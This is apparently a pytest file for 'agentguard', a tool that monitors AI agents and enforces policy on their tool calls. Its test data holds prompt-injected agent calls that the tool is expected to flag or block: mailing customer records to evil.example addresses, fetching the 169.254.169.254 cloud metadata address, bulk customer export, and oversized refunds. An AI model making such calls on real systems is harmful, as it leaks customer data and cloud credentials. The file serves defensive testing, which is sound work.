"""The runnable examples under ``examples/``, each run as a user would run it: as its own process,
checking what it prints, its exit status and the files it writes."""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from agentguard.collector.store import Store, StoreError
from tests.otlp_receiver import OtlpReceiver

ROOT = Path(__file__).resolve().parents[2]
BIN = Path(sys.executable).parent
TIMEOUT = 60


def example_env(**extra: str) -> dict[str, str]:
    """The environment of a user's shell with no agentguard, OTel or AWS settings, plus ``extra``."""
    env = {key: value for key, value in os.environ.items()
           if not key.startswith(("AGENTGUARD_", "OTEL_", "AWS_"))}
    env.update({
        # No AWS account: the Bedrock example must pick its local server, and boto3 must not
        # spend seconds asking an instance metadata service that is not there.
        "AWS_SHARED_CREDENTIALS_FILE": os.devnull, "AWS_CONFIG_FILE": os.devnull,
        "AWS_EC2_METADATA_DISABLED": "true",
        "PATH": f"{BIN}{os.pathsep}{env.get('PATH', '')}",
    })
    env.update(extra)
    return env


def run_example(*args: str, timeout: float = TIMEOUT, cwd: Path = ROOT,
                **env: str) -> subprocess.CompletedProcess[str]:
    """Run ``python examples/<args>`` and return the finished process."""
    return subprocess.run([sys.executable, *args], cwd=cwd, env=example_env(**env),
                          capture_output=True, text=True, timeout=timeout)


def agentguard_cli(*args: str, timeout: float = TIMEOUT,
                   **env: str) -> subprocess.CompletedProcess[str]:
    """Run the ``agentguard`` command line as a user would."""
    return subprocess.run([str(BIN / "agentguard"), *args], cwd=ROOT, env=example_env(**env),
                          capture_output=True, text=True, timeout=timeout)


def ok(done: subprocess.CompletedProcess[str]) -> str:
    """The standard output of a process that must have succeeded."""
    assert done.returncode == 0, f"exit {done.returncode}\n{done.stdout[-3000:]}\n{done.stderr[-3000:]}"
    return done.stdout


# -- langgraph_agent.py ---------------------------------------------------------------------------

def test_langgraph_agent_prints_conversations_spans_and_the_injection_finding() -> None:
    """The LangGraph example answers three turns, prints its spans to the console by default and
    reports the planted knowledge-base instruction as an alert on the right conversation."""
    out = ok(run_example("examples/langgraph_agent.py"))
    assert "[ticket-4711] agent: Customer 42 is Ada Lovelace on the enterprise plan." in out
    assert "[ticket-4712] agent: Hardware has a two-year warranty." in out
    # The console exporter's JSON spans, with the conversation on them.
    assert '"name": "execute_tool order_status"' in out
    assert '"gen_ai.conversation.id": "ticket-4712"' in out
    summary = re.search(r"summary: 2 conversations, 3 turns, 4 tool calls \(lookup_customer x1, "
                        r"order_status x2, search_kb x1\), (\d+) spans exported, 1 finding", out)
    assert summary is not None, out[-1500:]
    assert int(summary.group(1)) >= 10  # 3 agent, 6 chat and 4 tool spans at least
    finding = re.search(r"finding injection-detected \[high, alert\] .*\(conversation "
                        r"ticket-4712, turn 1, tool search_kb\)", out)
    assert finding is not None, out[-1500:]


def test_langgraph_agent_sends_spans_by_otlp_when_asked() -> None:
    """With AGENTGUARD_EXPORTER=otlp the example's spans reach an OTLP/HTTP endpoint, each tool span
    carrying its conversation and turn, and nothing is printed to the console but the summary."""
    with OtlpReceiver() as receiver:
        done = run_example("examples/langgraph_agent.py", AGENTGUARD_EXPORTER="otlp",
                           OTEL_EXPORTER_OTLP_ENDPOINT=receiver.http_endpoint)
        out = ok(done)
        spans = receiver.wait_for(13, timeout=10)
    assert '"name":' not in out
    tools = sorted((s.attributes["gen_ai.conversation.id"], s.attributes["agentguard.turn.index"],
                    s.name) for s in spans if s.name.startswith("execute_tool"))
    assert tools == [("ticket-4711", 1, "execute_tool lookup_customer"),
                     ("ticket-4711", 2, "execute_tool order_status"),
                     ("ticket-4711", 2, "execute_tool order_status"),
                     ("ticket-4712", 1, "execute_tool search_kb")]
    assert {s.resource["service.name"] for s in spans} == {"support-agent"}


# -- bedrock_tool_loop.py -------------------------------------------------------------------------

def test_bedrock_tool_loop_without_credentials_uses_the_local_server_and_blocks_the_refund() -> None:
    """Without AWS credentials the Converse loop runs against the in-process Bedrock-compatible
    server; the large refund is blocked and the model's answer explains it."""
    out = ok(run_example("examples/bedrock_tool_loop.py", AGENTGUARD_EXPORTER="console"))
    assert re.search(r"model: Bedrock-compatible endpoint http://127\.0\.0\.1:\d+ \(scripted, "
                     r"local\)", out)
    assert 'model asks for get_order({"order_id": 1002})' in out
    assert "agentguard blocked issue_refund: [SHOP-REFUND-LIMIT] refund of 1200.0 on order 1002 " \
           "needs a review" in out
    assert "agent: I could not refund the full 1200.00" in out
    assert "summary: 5 spans exported, 1 finding(s), 1 tool call(s) blocked" in out
    # The blocked tool span carries the model's toolUseId and the block decision.
    spans = [json.loads(block) for block in re.findall(r"^\{\n.*?^\}$", out, re.S | re.M)]
    refund = next(s for s in spans if s["name"] == "execute_tool issue_refund")
    assert refund["attributes"]["gen_ai.tool.call.id"].startswith("tooluse_")
    assert refund["attributes"]["agentguard.decision"] == "block"
    assert sum(s["name"].startswith("chat ") for s in spans) == 3


def test_bedrock_tool_loop_uses_the_endpoint_given_in_the_environment() -> None:
    """AGENTGUARD_EXAMPLE_BEDROCK_URL points the loop at another Bedrock-compatible endpoint, which
    receives the Converse requests with the tool results, the blocked one as an error."""
    from agentguard.demo.bedrock_server import BedrockServer, Reply, tool_use

    server = BedrockServer().start()
    try:
        server.push(Reply(tool_uses=[tool_use("issue_refund", {"order_id": 1002, "amount": 500})]),
                    Reply(text="A colleague will review your refund."))
        out = ok(run_example("examples/bedrock_tool_loop.py",
                             AGENTGUARD_EXAMPLE_BEDROCK_URL=server.url))
        requests = [r.json() for r in server.requests]
    finally:
        server.stop()
    assert f"model: Bedrock-compatible endpoint {server.url} (remote)" in out
    assert "agent: A colleague will review your refund." in out
    assert len(requests) == 2
    result = requests[1]["messages"][-1]["content"][0]["toolResult"]
    assert result["status"] == "error"
    assert "needs a review" in result["content"][0]["text"]


# -- policy.yaml and enforce_policy.py ------------------------------------------------------------

def test_policy_file_is_valid_for_the_policy_cli() -> None:
    """``agentguard policy check`` accepts the example policy and lists its six rules."""
    out = ok(agentguard_cli("policy", "check", "examples/policy.yaml"))
    assert "OK: examples/policy.yaml valid (6 rule(s) enabled)" in out
    for rule in ("SUP-001", "SUP-002", "SUP-003", "SUP-004", "SUP-005", "SUP-006"):
        assert rule in out


def test_policy_explain_replays_the_sequence_rule(tmp_path: Path) -> None:
    """``agentguard policy explain`` shows the mail rule firing only after customer data was read
    in the same conversation, with the policy file and line."""
    events = tmp_path / "events.json"
    mail = {"kind": "tool_call", "tool": "send_email", "phase": "call",
            "arguments": {"to": "drop@evil.example", "subject": "x", "body": "y"},
            "context": {"conversation_id": "c1"}}
    events.write_text(json.dumps([
        mail,
        {"kind": "tool_call", "tool": "lookup_customer", "phase": "result",
         "arguments": {"customer_id": 42}, "result": {"id": 42},
         "context": {"conversation_id": "c1"}},
        mail,
    ]))
    done = agentguard_cli("policy", "explain", "examples/policy.yaml", "--event", str(events),
                          "--no-builtin", "--json")
    results = json.loads(ok(done))
    fired = [[item["rule_id"] for item in result["matched"]] for result in results]
    assert fired == [[], [], ["SUP-002"]], results


def test_policy_allow_list_takes_an_extra_host_from_the_environment(tmp_path: Path) -> None:
    """A page on a partner host is outside the allow-list until SUPPORT_EXTRA_HOST names it."""
    events = tmp_path / "fetch.json"
    events.write_text(json.dumps({"kind": "tool_call", "tool": "fetch_page", "phase": "call",
                                  "arguments": {"url": "https://partner.example.net/faq"}}))
    command = ("policy", "explain", "examples/policy.yaml", "--event", str(events),
               "--no-builtin", "--json")
    fired = json.loads(ok(agentguard_cli(*command)))[0]["matched"]
    assert [item["rule_id"] for item in fired] == ["SUP-004"]
    fired = json.loads(ok(agentguard_cli(*command, SUPPORT_EXTRA_HOST="partner.example.net"))
                       )[0]["matched"]
    assert fired == []


def test_enforce_policy_blocks_the_injected_calls_and_allows_the_rest() -> None:
    """The policy example blocks the large refund, the refund of another customer's order, the
    mail to an outside address, the search result full of e-mail addresses, the bulk export and
    the metadata fetch; the ordinary calls go through and the support lead may refund."""
    done = run_example("examples/enforce_policy.py")
    out = ok(done)
    blocked = re.findall(r"BLOCKED  (.*?): \[([\w-]+)\]", out)
    assert blocked == [("refund 1200 EUR on order 1002", "SUP-001"),
                       ("refund order 2001 of customer 43", "refund-owner"),
                       ("mail the record to collect@evil.example", "SUP-002"),
                       ("search customers named '*'", "SUP-006"),
                       ("export 50000 customers", "SUP-003"),
                       ("fetch http://169.254.169.254/latest/meta-data/", "AG009")]
    assert "[SUP-001] refund of 1200.0 on order 1002 needs a support lead (policy.yaml:31)" in out
    assert "refunds made: [(1001, 49.0), (1002, 1200.0)]; mail sent to: ['ada@example.com']" in out
    assert "11 calls allowed, 6 blocked (7 block findings), 1 alert(s)" in out
    assert "alert [SUP-005] More than 5 customer look-ups a minute in one conversation" in out
    full = json.loads(out[out.index("one finding in full:") + len("one finding in full:"):])
    assert full["evidence"]["matched"][0]["because"][0] == \
        {"field": "arguments.amount", "condition": "> 500", "value": 1200.0}
    # The findings logger writes one line per block on standard error.
    assert "BLOCK critical [SUP-002]" in done.stderr


# -- learn_then_enforce.sh ------------------------------------------------------------------------

def test_learn_then_enforce_workflow_blocks_the_injected_export(tmp_path: Path) -> None:
    """The shell workflow learns a mature profile, writes and validates a policy from it, and in
    enforce mode lets new ordinary tickets through while blocking the 50,000-record export."""
    done = subprocess.run(["bash", "examples/learn_then_enforce.sh", str(tmp_path)], cwd=ROOT,
                          env=example_env(PYTHON=sys.executable, AGENTGUARD=str(BIN / "agentguard"),
                                          COLUMNS="200"),
                          capture_output=True, text=True, timeout=TIMEOUT)
    out = ok(done)
    profile = json.loads((tmp_path / "support-agent.json").read_text())
    assert profile["format"] == "agentguard-profile" and profile["agent"] == "support-agent"
    assert "learn: 30 conversations, 0 block finding(s)" in out
    assert "every tool is mature" in out
    policy = (tmp_path / "support-agent-policy.yaml").read_text()
    assert "query_customers: limit learned 1..5 over" in policy
    assert re.search(r"OK: .*support-agent-policy\.yaml valid \(\d+ rule\(s\) enabled\)", out)
    # Five new ordinary tickets and the attack: only the attack's export was blocked, by the
    # generated rule and by the baseline, and the agent recovered with an answer.
    assert "enforce: 6 conversations, 2 block finding(s)" in out
    blocked = re.findall(r"BLOCKED (\w+) in ([\w-]+): \[([\w-]+)\]", out)
    assert sorted(blocked) == [("query_customers", "ticket-5521", "BL-support_agent-015"),
                               ("query_customers", "ticket-5521", "baseline-argument-range")]
    assert "ticket-5521: agent answered: I can't export customer data" in out


def test_support_agent_fails_when_the_attack_is_not_blocked() -> None:
    """Enforcing with no profile, no policy and the built-in rules switched off lets the export
    through, and the workflow's agent says so with exit status 1 (the script stops there)."""
    done = run_example("examples/support_agent.py", "--mode", "enforce", "--conversations", "2",
                       "--attack", AGENTGUARD_BUILTIN_RULES="false")
    assert done.returncode == 1, done.stdout + done.stderr
    assert "enforce: 3 conversations, 0 block finding(s)" in done.stdout


# -- send_to_collector.py -------------------------------------------------------------------------

def collector_status(db: Path) -> dict[str, Any]:
    """The status row the running collector rewrites every second ({} before it exists)."""
    if not db.exists():
        return {}
    try:
        store = Store(str(db), readonly=True)
    except StoreError:  # the file exists, its schema is not written yet
        return {}
    try:
        value: dict[str, Any] = store.status().get("collector", {}).get("value", {})
        return value
    finally:
        store.close()


def wait_until(condition: Any, timeout: float, what: str) -> Any:
    deadline = time.monotonic() + timeout
    while True:
        value = condition()
        if value:
            return value
        if time.monotonic() > deadline:
            raise AssertionError(f"timed out waiting for {what}")
        time.sleep(0.2)


@pytest.fixture
def collector(tmp_path: Path) -> Iterator[tuple[Path, str]]:
    """``agentguard collector run`` with the /proc fallback sensor on a free loopback port; yields
    the database and the OTLP/HTTP endpoint, and stops the daemon with SIGTERM."""
    db = tmp_path / "collector.db"
    daemon = subprocess.Popen(
        [str(BIN / "agentguard"), "collector", "run", "--db", str(db), "--otlp-http",
         "127.0.0.1:0", "--otlp-grpc", "off", "--sensor", "procfs", "--hold-seconds", "5"],
        env=example_env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        def running() -> str | None:
            assert daemon.poll() is None, daemon.communicate()[1][-2000:]
            status = collector_status(db)
            endpoint = status.get("endpoints", {}).get("otlp_http")
            return endpoint if status.get("state") == "running" and endpoint else None
        endpoint = wait_until(running, 20, "the collector to listen")
        yield db, f"http://{endpoint}"
    finally:
        daemon.send_signal(signal.SIGTERM)
        try:
            daemon.communicate(timeout=15)
        except subprocess.TimeoutExpired:
            daemon.kill()
            daemon.communicate()


def test_send_to_collector_events_are_attributed_to_the_tool_call(
        collector: tuple[Path, str]) -> None:
    """The agent's spans reach a running collector, and ``agentguard collector events --json``
    shows the probe process its tool started, joined to that tool call's span, conversation and
    turn, with the agent named."""
    db, endpoint = collector
    done = run_example("examples/send_to_collector.py", AGENTGUARD_COLLECTOR_ENDPOINT=endpoint)
    out = ok(done)
    assert "agent: The billing service is healthy." in out
    span = re.search(r"sent (\d+) spans to .*; check_service span ([0-9a-f]{16})", out)
    assert span is not None and int(span.group(1)) >= 4, out
    tool_span = span.group(2)

    def probe_exec() -> dict[str, Any] | None:
        listed = agentguard_cli("collector", "events", "--db", str(db), "--json")
        for event in json.loads(ok(listed)):
            argv = event["data"].get("argv") or []
            if event["kind"] == "process.exec" and "-c" in argv and event["conversation_id"]:
                return dict(event)
        return None
    event = wait_until(probe_exec, 15, "the probe's exec, attributed")
    assert event["span_id"] == tool_span
    assert event["tool"] == "check_service"
    assert (event["conversation_id"], event["turn"], event["service"]) == \
        ("incident-88", 1, "ops-agent")
    assert event["attribution"] in ("traceparent", "child_pid", "thread")
    assert event["data"]["argv"][-1].endswith("/health")
    def all_spans_counted() -> dict[str, Any] | None:
        # The collector writes its status row once a second.
        row = collector_status(db)
        return row if row["counters"]["spans_received"] >= 4 else None
    status = wait_until(all_spans_counted, 10, "a status row counting every span")
    assert status["sensor"] == "procfs"
